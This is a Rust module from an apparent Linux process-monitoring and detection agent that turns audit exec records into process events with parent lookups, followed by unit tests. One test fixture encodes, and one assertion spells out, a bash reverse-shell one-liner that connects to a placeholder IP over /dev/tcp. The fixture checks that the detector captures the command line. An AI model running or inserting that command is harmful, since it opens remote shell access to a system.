//! Linux audit exec records → `ProcessEvent`, with parent facts from the process table.
//!
//! The mapping (design.md §3, Linux column): `process.executable` is SYSCALL `exe` and
//! `process.name` its basename — never argv[0] or comm, which the process controls; args come
//! from every EXECVE record; ids stay strings; names are resolved once per id. A failed exec
//! (`success=no`) started nothing: it becomes `event.type: ["info"]`, `event.outcome: "failure"`
//! with the attempted path, so `event.type == "start"` rules never fire on `$PATH` probing.

use std::collections::HashSet;
use std::path::PathBuf;
use std::sync::Arc;

use execsentry_linux::{arch, ExecRecord};

use crate::entity::EntityIds;
use crate::event::{basename, Action, HostInfo, ProcessEvent, ProcessInfo, SourceFacts};
use crate::process_table::{Limits, ProcessTable, TableStats};
use crate::procfs;
use crate::text_cache::{refill, refill_opt, Recent, RecentId, TextCache};
use crate::users::{IdsCache, NameCache};

/// Audit's "unset" id (auid, ses).
const UNSET: u32 = u32::MAX;

/// How many argument strings [`AuditNormalizer`] keeps for reuse.
const MAX_SPARE_ARGS: usize = 256;

/// How much older than its child's exec a `/proc` parent may claim to be younger: audit times are
/// jiffy-coarse and `/proc` start times tick-coarse.
const START_SLACK_NS: i64 = 1_000_000_000;

/// The last value of the fields that repeat back to back most (see [`Recent`]).
#[derive(Debug, Default)]
struct RecentFields {
    session: RecentId,
    audit_user_id: RecentId,
    key: Recent,
    cwd: Recent,
    tty: Recent,
}

/// What [`AuditNormalizer::exec`] and [`AuditNormalizer::exec_into`] share.
struct Image {
    timestamp_ns: i64,
    process: Arc<ProcessInfo>,
    parent: Option<Arc<ProcessInfo>>,
    syscall: &'static str,
    failed: bool,
}

/// An audit id (session, auid), absent when unset.
fn audit_id(v: Option<u32>) -> Option<u32> {
    v.filter(|&v| v != UNSET)
}

/// Turns assembled exec records into events, keeping the process table current.
pub struct AuditNormalizer {
    table: ProcessTable,
    names: NameCache,
    ids: IdsCache,
    /// Shared text for values that repeat across events (ids, paths, terminal, key).
    texts: TextCache,
    recent: RecentFields,
    /// Argument strings a refilled image had beyond its new exec's argc, kept (with their
    /// allocations) for the next image that needs more: argc varies from exec to exec.
    spare_args: Vec<String>,
    host: Arc<HostInfo>,
    /// Entity ids for this host and boot.
    entity_ids: EntityIds,
    /// `/proc` for seeding and fallback lookups; `None` when replaying another time's records.
    proc_root: Option<PathBuf>,
    clock: Option<procfs::Clock>,
}

impl AuditNormalizer {
    /// A normalizer for records from this machine, now: `/proc` seeds and backs the table.
    pub fn live(host: Arc<HostInfo>, limits: Limits) -> AuditNormalizer {
        let mut n = AuditNormalizer::replay(host, limits);
        let host_id = n.host.id.clone().unwrap_or_default();
        n.entity_ids = EntityIds::new(&host_id, &procfs::boot_id().unwrap_or_default());
        n.proc_root = Some(PathBuf::from("/proc"));
        n.clock = procfs::Clock::read();
        n
    }

    /// A normalizer for recorded streams: the table is built from the records alone.
    pub fn replay(host: Arc<HostInfo>, limits: Limits) -> AuditNormalizer {
        let mut table = ProcessTable::new(limits);
        table.keep_spares();
        AuditNormalizer {
            table,
            names: NameCache::new(),
            ids: IdsCache::new(),
            texts: TextCache::new(),
            recent: RecentFields::default(),
            spare_args: Vec::new(),
            entity_ids: EntityIds::new(host.id.as_deref().unwrap_or_default(), ""),
            host,
            proc_root: None,
            clock: None,
        }
    }

    /// Fills the table with every running process (live only). Returns how many were read.
    pub fn seed_from_proc(&mut self) -> usize {
        let (Some(root), Some(clock)) = (self.proc_root.clone(), self.clock) else {
            return 0;
        };
        let mut seeded = 0;
        for pid in procfs::pids(&root) {
            if let Some((mut info, start_ticks)) =
                procfs::read_process(&root, pid, &clock, &mut self.names)
            {
                info.entity_id = self.entity_ids.id(pid, start_ticks);
                self.table.insert(Arc::new(info), start_ticks);
                seeded += 1;
            }
        }
        seeded
    }

    /// Drops table entries of processes that are gone (live) past their grace period.
    /// One listing of `/proc` per prune, not a `stat` per table entry (tens of thousands).
    pub fn prune(&mut self, now_ns: i64) {
        match &self.proc_root {
            Some(root) => {
                let running: HashSet<u32> = procfs::pids(root).into_iter().collect();
                self.table.prune(now_ns, |pid| running.contains(&pid));
            }
            None => self.table.prune(now_ns, |_| true),
        }
    }

    pub fn table_stats(&self) -> TableStats {
        self.table.stats()
    }

    /// The event for one exec record; a successful exec becomes its pid's current image.
    pub fn exec(&mut self, rec: &ExecRecord) -> ProcessEvent {
        let image = self.image(rec);
        let sc = &rec.syscall;
        let (texts, recent) = (&mut self.texts, &mut self.recent);
        ProcessEvent {
            timestamp_ns: image.timestamp_ns,
            sequence: u64::from(rec.serial),
            action: Action::Exec,
            process: image.process,
            parent: image.parent,
            host: Arc::clone(&self.host),
            source: SourceFacts::Audit {
                session: audit_id(sc.ses).map(|v| recent.session.decimal(texts, v)),
                audit_user_id: audit_id(sc.auid).map(|v| recent.audit_user_id.decimal(texts, v)),
                // Several keys are joined by 0x01 by the kernel; the first is ours.
                key: sc.keys().next().map(|k| recent.key.lossy(texts, k)),
                syscall: image.syscall,
                failed: image.failed,
            },
        }
    }

    /// Like [`exec`](Self::exec), overwriting `event` (the previous one, done with): the host,
    /// session, audit user and key it holds are kept when they are the same, which saves a
    /// reference count taken and dropped for each per exec.
    pub fn exec_into(&mut self, rec: &ExecRecord, event: &mut ProcessEvent) {
        // The previous parent goes first: the table may hand its image out as a spare.
        event.parent = None;
        let image = self.image(rec);
        let sc = &rec.syscall;
        let (texts, recent) = (&mut self.texts, &mut self.recent);
        // No `..`: a field added to `ProcessEvent` must be set here, or an old event would leak.
        let ProcessEvent {
            timestamp_ns,
            sequence,
            action,
            process,
            parent,
            host,
            source,
        } = event;
        *timestamp_ns = image.timestamp_ns;
        *sequence = u64::from(rec.serial);
        *action = Action::Exec;
        *process = image.process;
        *parent = image.parent;
        if !Arc::ptr_eq(host, &self.host) {
            *host = Arc::clone(&self.host);
        }
        if !matches!(source, SourceFacts::Audit { .. }) {
            *source = SourceFacts::Audit {
                session: None,
                audit_user_id: None,
                key: None,
                syscall: image.syscall,
                failed: image.failed,
            };
        }
        if let SourceFacts::Audit {
            session,
            audit_user_id,
            key,
            syscall,
            failed,
        } = source
        {
            recent.session.refill(texts, session, audit_id(sc.ses));
            recent
                .audit_user_id
                .refill(texts, audit_user_id, audit_id(sc.auid));
            refill_opt(key, sc.keys().next(), |k| recent.key.lossy(texts, k));
            *syscall = image.syscall;
            *failed = image.failed;
        }
    }

    /// The exec's process image (filled into a spare when there is one, and made its pid's
    /// current image when the exec succeeded), with its parent.
    fn image(&mut self, rec: &ExecRecord) -> Image {
        let sc = &rec.syscall;
        let timestamp_ns = (rec.time.sec as i64)
            .saturating_mul(1_000_000_000)
            .saturating_add(i64::from(rec.time.ms) * 1_000_000);
        let failed = rec.failed();
        let parent = self.parent(sc.ppid.unwrap_or(0), timestamp_ns);
        // Fill a spare image (one that left the table) in place: its strings keep their
        // allocations (the shared texts are swapped, not copied).
        let mut process = self.table.take_spare().unwrap_or_default();
        match Arc::get_mut(&mut process) {
            Some(info) => self.fill(info, rec, timestamp_ns),
            None => {
                let mut info = ProcessInfo::default();
                self.fill(&mut info, rec, timestamp_ns);
                process = Arc::new(info);
            }
        }
        if !failed {
            self.table
                .insert(Arc::clone(&process), u64::from(rec.serial));
        }
        let syscall = match (sc.arch, sc.nr) {
            (Some(a), Some(nr))
                if arch::Arch::from_audit_value(a).is_some_and(|a| a.execveat() == nr) =>
            {
                "execveat"
            }
            _ => "execve",
        };
        Image {
            timestamp_ns,
            process,
            parent,
            syscall,
            failed,
        }
    }

    /// Overwrites every field of `info` (which may hold a previous image) with the exec's facts.
    fn fill(&mut self, info: &mut ProcessInfo, rec: &ExecRecord, timestamp_ns: i64) {
        // No `..`: a field added to `ProcessInfo` must be set here, or an old image would leak.
        let ProcessInfo {
            pid,
            ppid,
            entity_id,
            executable,
            name,
            args,
            command_line,
            working_directory,
            ids,
            interactive,
            tty,
            code_signature,
            start_ns,
            exit_code,
        } = info;
        let sc = &rec.syscall;
        let (texts, recent) = (&mut self.texts, &mut self.recent);
        *pid = sc.pid.unwrap_or(0);
        *ppid = sc.ppid.unwrap_or(0);
        self.entity_ids
            .write(*pid, u64::from(rec.serial), entity_id);
        // Texts are compared before they are replaced: a refilled image often had the same.
        refill_opt(working_directory, rec.cwd.as_deref(), |c| {
            recent.cwd.lossy(texts, c)
        });
        match (&sc.exe, rec.failed()) {
            // A failed exec leaves the old image: the attempt is the PATH name.
            (_, true) | (None, false) => {
                let attempt = attempted_path(rec, working_directory.as_deref());
                let attempt = attempt.as_deref().unwrap_or_default();
                refill(executable, attempt.as_bytes(), |_| texts.text(attempt));
            }
            (Some(exe), false) => refill(executable, exe, |exe| texts.lossy(exe)),
        }
        let base = basename(executable);
        refill(name, base.as_bytes(), |_| texts.text(base));
        // One UTF-8 check for all arguments; an argument is then a slice of it, unless it ends
        // inside a character (then it is not valid alone, and goes the lossy way).
        let all = std::str::from_utf8(rec.argv.as_bytes()).ok();
        let mut start = 0;
        let spare_args = &mut self.spare_args;
        if args.len() > rec.argv.len() {
            let room = MAX_SPARE_ARGS.saturating_sub(spare_args.len());
            let extra = args.drain(rec.argv.len()..);
            spare_args.extend(extra.take(room));
        }
        command_line.clear();
        command_line.reserve(rec.argv.as_bytes().len() + rec.argv.len());
        for (i, arg) in rec.argv.iter().enumerate() {
            let end = start + arg.len();
            let text = all.and_then(|all| all.get(start..end));
            start = end;
            if i == args.len() {
                args.push(
                    spare_args
                        .pop()
                        .unwrap_or_else(|| String::with_capacity(arg.len())),
                );
            }
            if let Some(a) = args.get_mut(i) {
                a.clear();
                match text {
                    Some(text) => a.push_str(text),
                    None => push_lossy(a, arg),
                }
                if i > 0 {
                    command_line.push(' ');
                }
                command_line.push_str(a);
            }
        }
        let creds = self
            .ids
            .get_ref([sc.euid, sc.uid, sc.egid, sc.gid], &mut self.names);
        if !Arc::ptr_eq(ids, creds) {
            *ids = Arc::clone(creds);
        }
        let terminal = sc.tty.as_deref().filter(|t| !t.is_empty());
        refill_opt(tty, terminal, |t| recent.tty.lossy(texts, t));
        *interactive = tty.is_some();
        *code_signature = None;
        *start_ns = Some(timestamp_ns);
        *exit_code = None;
    }

    /// The parent's current image: from the table, else (live) from `/proc` when the process
    /// there started before the child's exec.
    fn parent(&mut self, ppid: u32, child_time_ns: i64) -> Option<Arc<ProcessInfo>> {
        if ppid == 0 {
            return None;
        }
        let (root, clock) = match (&self.proc_root, self.clock) {
            (Some(r), Some(c)) => (r.clone(), c),
            _ => return self.table.get(ppid, None),
        };
        let (entity_ids, names) = (&self.entity_ids, &mut self.names);
        self.table.get_or_fetch(ppid, None, |pid| {
            let (mut info, ticks) = procfs::read_process(&root, pid, &clock, names)?;
            if info
                .start_ns
                .is_some_and(|s| s > child_time_ns + START_SLACK_NS)
            {
                return None;
            }
            info.entity_id = entity_ids.id(pid, ticks);
            Some((info, ticks))
        })
    }
}

fn lossy(bytes: &[u8]) -> String {
    let mut s = String::with_capacity(bytes.len());
    push_lossy(&mut s, bytes);
    s
}

/// Appends `bytes` as UTF-8, invalid sequences replaced (`from_utf8` first: it is much faster
/// than the lossy decoder on text that is valid, which is nearly all of it).
fn push_lossy(out: &mut String, bytes: &[u8]) {
    match std::str::from_utf8(bytes) {
        Ok(s) => out.push_str(s),
        Err(_) => out.push_str(&String::from_utf8_lossy(bytes)),
    }
}

/// The file an exec named (PATH item 0), resolved against the working directory.
fn attempted_path(rec: &ExecRecord, cwd: Option<&str>) -> Option<String> {
    let name = lossy(rec.paths.first()?.name.as_deref()?);
    if name.starts_with('/') || name.is_empty() {
        return Some(name);
    }
    Some(match cwd {
        Some(cwd) => format!(
            "{}/{}",
            cwd.trim_end_matches('/'),
            name.trim_start_matches("./")
        ),
        None => name,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use execsentry_linux::{Assembler, AssemblerConfig, AuditEvent};

    fn assemble(log: &str) -> Vec<ExecRecord> {
        let mut asm = Assembler::new(AssemblerConfig::text());
        let mut out = Vec::new();
        let mut emit = |e: AuditEvent| {
            if let AuditEvent::Exec(x) = e {
                out.push(*x)
            }
        };
        for line in log.lines().filter(|l| !l.trim().is_empty()) {
            let rec = execsentry_linux::parse_line(line.trim().as_bytes()).expect("fixture line");
            asm.push(&rec, &mut emit);
        }
        asm.flush(&mut emit);
        out
    }

    fn host() -> Arc<HostInfo> {
        Arc::new(HostInfo {
            name: "h".into(),
            hostname: "h".into(),
            os_type: "linux".into(),
            ..Default::default()
        })
    }

    /// A shell (pid 100) runs a reverse shell (pid 101) and exits: the child's event still
    /// names its parent, from the table, not from `/proc`.
    const SHELL_THEN_REVERSE_SHELL: &str = r#"
type=SYSCALL msg=audit(1795848213.100:500): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=1 pid=100 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="bash" exe="/usr/bin/bash" key="execsentry"
type=EXECVE msg=audit(1795848213.100:500): argc=1 a0="bash"
type=CWD msg=audit(1795848213.100:500): cwd="/home/u"
type=PATH msg=audit(1795848213.100:500): item=0 name="/usr/bin/bash" inode=1 dev=fe:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0
type=PROCTITLE msg=audit(1795848213.100:500): proctitle="bash"
type=SYSCALL msg=audit(1795848213.200:501): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=100 pid=101 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="sh" exe="/usr/bin/dash" key="execsentry"
type=EXECVE msg=audit(1795848213.200:501): argc=3 a0="sh" a1="-c" a2=7368202D69203E26202F6465762F7463702F3139322E302E322E312F3434343420303E2631
type=CWD msg=audit(1795848213.200:501): cwd="/home/u"
type=PATH msg=audit(1795848213.200:501): item=0 name="/bin/sh" inode=2 dev=fe:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0
type=PROCTITLE msg=audit(1795848213.200:501): proctitle=7368002D63
type=SYSCALL msg=audit(1795848213.300:502): arch=c000003e syscall=59 success=no exit=-2 a0=1 a1=2 a2=3 a3=0 items=1 ppid=101 pid=102 auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4294967295 comm="sh" exe="/usr/bin/dash" key="execsentry"
type=CWD msg=audit(1795848213.300:502): cwd="/tmp"
type=PATH msg=audit(1795848213.300:502): item=0 name="./nope" nametype=UNKNOWN cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0
type=PROCTITLE msg=audit(1795848213.300:502): proctitle="sh"
"#;

    #[test]
    fn maps_exec_records_with_parents_from_the_table() {
        let recs = assemble(SHELL_THEN_REVERSE_SHELL);
        assert_eq!(recs.len(), 3);
        let mut n = AuditNormalizer::replay(host(), Limits::default());
        let bash = n.exec(&recs[0]);
        assert_eq!(&*bash.process.name, "bash");
        assert!(bash.parent.is_none(), "pid 1 was never seen in a replay");

        let sh = n.exec(&recs[1]);
        let p = &sh.process;
        assert_eq!((p.pid, p.ppid), (101, 100));
        assert_eq!(&*p.executable, "/usr/bin/dash");
        assert_eq!(&*p.name, "dash", "basename of exe, not argv[0]");
        assert_eq!(
            p.args,
            ["sh", "-c", "sh -i >& /dev/tcp/192.0.2.1/4444 0>&1"]
        );
        assert_eq!(
            p.command_line,
            "sh -c sh -i >& /dev/tcp/192.0.2.1/4444 0>&1"
        );
        assert_eq!(p.working_directory.as_deref(), Some("/home/u"));
        assert_eq!((&*p.ids.user_id, &*p.ids.group_id), ("1000", "1000"));
        assert!(p.interactive);
        assert_eq!(p.tty.as_deref(), Some("pts0"));
        assert_eq!(sh.timestamp_ns, 1_795_848_213_200_000_000);
        assert_eq!(sh.sequence, 501);
        let parent = sh.parent.as_ref().expect("parent from the table");
        assert_eq!(
            (&*parent.name, parent.command_line.as_str()),
            ("bash", "bash")
        );
        assert_eq!(parent.entity_id, bash.process.entity_id);
        assert_eq!(
            sh.source,
            SourceFacts::Audit {
                session: Some("3".into()),
                audit_user_id: Some("1000".into()),
                key: Some("execsentry".into()),
                syscall: "execve",
                failed: false
            }
        );

        let failed = n.exec(&recs[2]);
        assert!(failed.failed());
        assert_eq!(
            failed.event_type(),
            ["info"],
            "a failed exec is not a process start"
        );
        assert_eq!(&*failed.process.executable, "/tmp/nope");
        assert!(failed.process.args.is_empty());
        assert!(!failed.process.interactive);
        assert_eq!(failed.parent.as_ref().map(|p| &*p.name), Some("dash"));
        assert!(matches!(
            failed.source,
            SourceFacts::Audit {
                session: None,
                audit_user_id: None,
                ..
            }
        ));
        // A failed exec is not the pid's image: pid 102 stays unknown.
        assert!(n.table.get(102, None).is_none());
    }

    /// pid 300 runs as root with a tty, a working directory and three arguments, then execs
    /// again; pid 301 then runs with none of those, as an unknown uid, in a non-UTF-8 directory.
    const REEXEC_THEN_BARE: &str = r#"
type=SYSCALL msg=audit(1795848213.100:600): arch=c000003e syscall=59 success=yes exit=0 items=1 ppid=1 pid=300 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts1 ses=9 comm="make" exe="/usr/bin/make" key="execsentry"
type=EXECVE msg=audit(1795848213.100:600): argc=3 a0="make" a1="-j8" a2="all"
type=CWD msg=audit(1795848213.100:600): cwd="/home/u/src/project"
type=PATH msg=audit(1795848213.100:600): item=0 name="/usr/bin/make" nametype=NORMAL
type=PROCTITLE msg=audit(1795848213.100:600): proctitle="make"
type=SYSCALL msg=audit(1795848213.200:601): arch=c000003e syscall=59 success=yes exit=0 items=1 ppid=1 pid=300 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts1 ses=9 comm="cc" exe="/usr/bin/cc" key="execsentry"
type=EXECVE msg=audit(1795848213.200:601): argc=1 a0="cc"
type=PROCTITLE msg=audit(1795848213.200:601): proctitle="cc"
type=SYSCALL msg=audit(1795848213.300:602): arch=c000003e syscall=59 success=yes exit=0 items=1 ppid=300 pid=301 auid=4294967295 uid=3999999999 gid=3999999999 euid=3999999999 suid=0 fsuid=0 egid=3999999999 sgid=0 fsgid=0 tty=(none) ses=4294967295 comm="x" exe="/x" key="execsentry"
type=EXECVE msg=audit(1795848213.300:602): argc=1 a0=78
type=CWD msg=audit(1795848213.300:602): cwd=2FFF
type=PROCTITLE msg=audit(1795848213.300:602): proctitle="x"
"#;

    /// Building each event over the previous one gives the events `exec` gives, whatever the
    /// previous one held (other ids, no key, another source's facts).
    #[test]
    fn exec_into_gives_the_events_exec_gives() {
        let mut recs = assemble(SHELL_THEN_REVERSE_SHELL);
        recs.extend(assemble(REEXEC_THEN_BARE));
        recs.extend(assemble(SHELL_THEN_REVERSE_SHELL));
        let mut fresh = AuditNormalizer::replay(host(), Limits::default());
        let mut reusing = AuditNormalizer::replay(host(), Limits::default());
        let mut event = reusing.exec(&recs[0]);
        assert_eq!(event, fresh.exec(&recs[0]));
        for (i, rec) in recs.iter().enumerate().skip(1) {
            if i == 4 {
                event.source = SourceFacts::EndpointSecurity {
                    seq_num: 1,
                    global_seq_num: 2,
                    pidversion: 3,
                    responsible_pid: None,
                };
                event.host = Arc::new(HostInfo::default());
            }
            reusing.exec_into(rec, &mut event);
            assert_eq!(event, fresh.exec(rec), "record {i}");
        }
    }

    #[test]
    fn a_reused_image_is_overwritten_whole() {
        let recs = assemble(REEXEC_THEN_BARE);
        assert_eq!(recs.len(), 3);
        let mut n = AuditNormalizer::replay(host(), Limits::default());
        let make = n.exec(&recs[0]);
        assert_eq!(make.process.ids.user_name.as_deref(), Some("root"));
        let make_image = Arc::as_ptr(&make.process);
        drop(make);
        n.exec(&recs[1]); // pid 300 again: the make image leaves the table
        let bare = n.exec(&recs[2]);
        assert_eq!(
            Arc::as_ptr(&bare.process),
            make_image,
            "the spare image was reused"
        );
        // The same as a normalizer that never saw the earlier events would make.
        let mut fresh = AuditNormalizer::replay(host(), Limits::default());
        let want = fresh.exec(&recs[2]);
        assert_eq!(bare.process, want.process);
        let p = &bare.process;
        assert_eq!(p.args, ["x"]);
        assert_eq!(p.working_directory.as_deref(), Some("/\u{fffd}"));
        assert_eq!((p.tty.as_deref(), p.interactive), (None, false));
        assert_eq!(&*p.ids.user_id, "3999999999");
        assert_eq!(p.ids.user_name, None);
        // make's two extra argument strings wait for the next image with more arguments.
        assert_eq!(n.spare_args.len(), 2);
        let again = n.exec(&recs[0]);
        assert_eq!(again.process.args, ["make", "-j8", "all"]);
        assert_eq!(again.process.command_line, "make -j8 all");
        assert!(n.spare_args.is_empty());
    }

    #[test]
    fn arguments_split_inside_a_character_stay_lossy_each() {
        // "é" is C3 A9: split across two arguments, each half is invalid alone, though the
        // arguments together are valid UTF-8.
        let log = r#"
type=SYSCALL msg=audit(1795848213.100:700): arch=c000003e syscall=59 success=yes exit=0 items=1 ppid=1 pid=400 uid=0 euid=0 gid=0 egid=0 comm="x" exe="/x"
type=EXECVE msg=audit(1795848213.100:700): argc=4 a0="x" a1=C3 a2=A9 a3=C3A9
type=PROCTITLE msg=audit(1795848213.100:700): proctitle="x"
"#;
        let recs = assemble(log);
        let mut n = AuditNormalizer::replay(host(), Limits::default());
        let e = n.exec(&recs[0]);
        assert_eq!(e.process.args, ["x", "\u{fffd}", "\u{fffd}", "é"]);
        assert_eq!(e.process.command_line, "x \u{fffd} \u{fffd} é");
    }

    #[test]
    fn live_parent_falls_back_to_proc_for_processes_started_earlier() {
        let mut n = AuditNormalizer::live(host(), Limits::default());
        let me = std::process::id();
        let now = crate::time::now_ns();
        let found = n.parent(me, now).expect("this test process is in /proc");
        assert_eq!(found.pid, me);
        let mut n = AuditNormalizer::live(host(), Limits::default());
        assert!(
            n.parent(me, 0).is_none(),
            "a process started after the event is not its parent"
        );
    }
}
